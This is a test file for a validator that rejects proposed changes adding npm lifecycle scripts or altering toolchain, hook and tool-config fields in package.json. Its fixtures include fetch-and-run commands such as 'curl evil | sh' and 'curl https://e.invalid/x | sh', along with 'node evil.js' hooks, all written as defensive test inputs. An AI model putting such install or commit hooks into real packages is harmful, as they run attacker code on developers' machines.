// validate: npm lifecycle scripts and toolchain fields a proposal may not add or change.
import { describe, expect, it } from "vitest";
import {
  changedGuardedFields,
  changedLifecycleScripts,
  isNodeGypPath,
  isPackageJsonPath,
  LIFECYCLE_SCRIPTS,
} from "../../src/validate/npm-scripts.js";

const pkg = (scripts: Record<string, unknown> | undefined, extra: Record<string, unknown> = {}) =>
  JSON.stringify({ name: "demo", version: "1.0.0", ...(scripts ? { scripts } : {}), ...extra }, null, 2);

describe("validate: changedLifecycleScripts", () => {
  it("refuses an added postinstall", () => {
    expect(
      changedLifecycleScripts(pkg({ build: "tsc" }), pkg({ build: "tsc", postinstall: "node x" })),
    ).toEqual(['adds the npm lifecycle script "postinstall"']);
  });

  it("refuses a changed prepare", () => {
    expect(changedLifecycleScripts(pkg({ prepare: "husky" }), pkg({ prepare: "curl evil | sh" }))).toEqual([
      'changes the npm lifecycle script "prepare"',
    ]);
  });

  it("refuses every lifecycle script of a new package.json", () => {
    const problems = changedLifecycleScripts(undefined, pkg({ preinstall: "a", install: "b", test: "c" }));
    expect(problems).toEqual([
      'adds the npm lifecycle script "preinstall"',
      'adds the npm lifecycle script "install"',
    ]);
  });

  it("covers the whole family, with pre and post variants", () => {
    const names = [
      "preinstall",
      "install",
      "postinstall",
      "preuninstall",
      "uninstall",
      "postuninstall",
      "prepublish",
      "preprepare",
      "prepare",
      "postprepare",
      "prepack",
      "postpack",
      "prepublishOnly",
      "publish",
      "postpublish",
      "preversion",
      "version",
      "postversion",
      "dependencies",
      "predependencies",
      "postdependencies",
    ];
    for (const name of names) {
      expect(LIFECYCLE_SCRIPTS.has(name.toLowerCase()), name).toBe(true);
      expect(changedLifecycleScripts(pkg({}), pkg({ [name]: "x" })), name).toHaveLength(1);
    }
  });

  it("refuses a differently-cased or padded lifecycle name", () => {
    expect(changedLifecycleScripts(pkg({}), pkg({ PostInstall: "x" }))).toHaveLength(1);
    expect(changedLifecycleScripts(pkg({}), pkg({ " postinstall": "x" }))).toHaveLength(1);
  });

  it("allows ordinary scripts, other fields, and removing a lifecycle script", () => {
    expect(changedLifecycleScripts(pkg({ build: "tsc" }), pkg({ build: "tsc -p .", lint: "biome" }))).toEqual(
      [],
    );
    expect(changedLifecycleScripts(pkg({ postinstall: "x" }), pkg({}))).toEqual([]);
    expect(
      changedLifecycleScripts(pkg({ postinstall: "x" }), pkg({ postinstall: "x" }, { version: "1.0.1" })),
    ).toEqual([]);
    expect(changedLifecycleScripts(undefined, pkg(undefined))).toEqual([]);
  });

  it("refuses a package.json that is no longer a JSON object", () => {
    for (const broken of ["{", '{"scripts": {}},', "[]", "null", ""]) {
      expect(changedLifecycleScripts(pkg({}), broken), broken).toEqual([
        "is not a valid JSON object after the change",
      ]);
    }
  });

  it("reads the script npm would read when a key is duplicated, and strips a BOM", () => {
    const duplicated = '{"scripts": {"postinstall": "", "postinstall": "node evil.js"}}';
    expect(changedLifecycleScripts('{"scripts": {"postinstall": ""}}', duplicated)).toHaveLength(1);
    expect(changedLifecycleScripts(pkg({}), `\ufeff${pkg({ build: "x" })}`)).toEqual([]);
  });

  it("counts a previously broken package.json as having no scripts", () => {
    expect(changedLifecycleScripts("{", pkg({ postinstall: "x" }))).toHaveLength(1);
  });
});

describe("validate: changedGuardedFields", () => {
  it("refuses adding or changing the fields that pick the manager or runtime that runs", () => {
    const url = "yarn@https://cdn.example.invalid/yarn.js";
    expect(changedGuardedFields(pkg({}), pkg({}, { packageManager: url }))).toEqual([
      'adds the field "packageManager" (it picks the package manager or runtime that is downloaded and run)',
    ]);
    expect(
      changedGuardedFields(
        pkg({}, { packageManager: "pnpm@9.0.0" }),
        pkg({}, { packageManager: "pnpm@9.1.0" }),
      ),
    ).toHaveLength(1);
    expect(
      changedGuardedFields(undefined, pkg({}, { devEngines: { packageManager: { name: "yarn" } } })),
    ).toHaveLength(1);
    expect(changedGuardedFields(pkg({}), pkg({}, { volta: { node: "20.1.0" } }))).toHaveLength(1);
  });

  it("refuses a change to pnpm's, Yarn's and Bun's install settings, which pick what may run install scripts", () => {
    expect(
      changedGuardedFields(pkg({}), pkg({}, { pnpm: { onlyBuiltDependencies: ["esbuild", "evil"] } })),
    ).toEqual([
      'adds the field "pnpm" (it configures what pnpm installs, and which dependencies may run install scripts)',
    ]);
    expect(
      changedGuardedFields(pkg({}), pkg({}, { dependenciesMeta: { evil: { built: true } } })),
    ).toHaveLength(1);
    expect(changedGuardedFields(pkg({}), pkg({}, { trustedDependencies: ["evil"] }))).toHaveLength(1);
    // Bun's own patches of dependencies, at the top: the file it names may be anywhere.
    expect(
      changedGuardedFields(pkg({}), pkg({}, { patchedDependencies: { "pad@1.0.0": "src/pad.patch" } })),
    ).toEqual([
      `adds the field "patchedDependencies" (it names the patches Bun applies to dependencies' code on the next install)`,
    ]);
    // Where the next publish sends the package, as an .npmrc's registry says.
    expect(
      changedGuardedFields(pkg({}), pkg({}, { publishConfig: { registry: "https://e.invalid/" } })),
    ).toEqual([
      'adds the field "publishConfig" (it says where the next npm, Yarn or pnpm publish sends the package, and how)',
    ]);
  });

  it("refuses turning on Renovate's automerge in the package.json it also reads", () => {
    const before = pkg({}, { renovate: { extends: ["config:recommended"] } });
    const after = pkg({}, { renovate: { extends: ["config:recommended"], automerge: true } });
    expect(changedGuardedFields(before, after)).toEqual([
      'changes the field "renovate" (it configures the Renovate bot, which may merge changes by itself)',
    ]);
    expect(changedGuardedFields(pkg({}), after)).toHaveLength(1);
    expect(changedGuardedFields(after, pkg({}))).toEqual([]);
  });

  it("refuses the commit hooks' and editor tools' configuration read from package.json, as from their own files", () => {
    const commands = { "*.js": "curl https://e.invalid/x | sh" };
    expect(changedGuardedFields(pkg({}), pkg({}, { "lint-staged": commands }))).toEqual([
      'adds the field "lint-staged" (it names the commands the git hooks run on every commit)',
    ]);
    for (const extra of [
      { husky: { hooks: { "pre-commit": "node evil.js" } } },
      { "pre-commit": ["evil"] },
      { "simple-git-hooks": { "pre-commit": "node evil.js" } },
      { commitlint: { extends: ["./evil.cjs"] } },
      { eslintConfig: { extends: ["./evil.cjs"] } },
      { prettier: "./evil.mjs" },
      { stylelint: { plugins: ["./evil.mjs"] } },
      { babel: { plugins: ["./evil.cjs"] } },
      { jest: { setupFiles: ["./evil.cjs"] } },
    ]) {
      expect(changedGuardedFields(pkg({}), pkg({}, extra)), Object.keys(extra)[0]).toHaveLength(1);
    }
  });

  it("lets the other fields change, and a toolchain field stay or go", () => {
    const pinned = { packageManager: "pnpm@9.0.0", volta: { node: "20.1.0" } };
    expect(changedGuardedFields(pkg({}, pinned), pkg({}, { ...pinned, description: "x" }))).toEqual([]);
    expect(changedGuardedFields(pkg({}, pinned), pkg({}))).toEqual([]);
    expect(changedGuardedFields(pkg({}), pkg({}, { dependencies: { left: "1.0.0" } }))).toEqual([]);
    expect(changedGuardedFields(pkg({}), "{")).toEqual([]);
  });
});

describe("validate: isPackageJsonPath / isNodeGypPath", () => {
  it("matches package.json at any depth and in any case", () => {
    for (const path of ["package.json", "packages/a/package.json", "Package.JSON", "x/package.json."]) {
      expect(isPackageJsonPath(path), path).toBe(true);
    }
    for (const path of ["package.json5", "src/package.jsonx", "package-lock.json"]) {
      expect(isPackageJsonPath(path), path).toBe(false);
    }
    expect(isNodeGypPath("native/binding.gyp")).toBe(true);
    expect(isNodeGypPath("native/other.gyp")).toBe(false);
  });
});
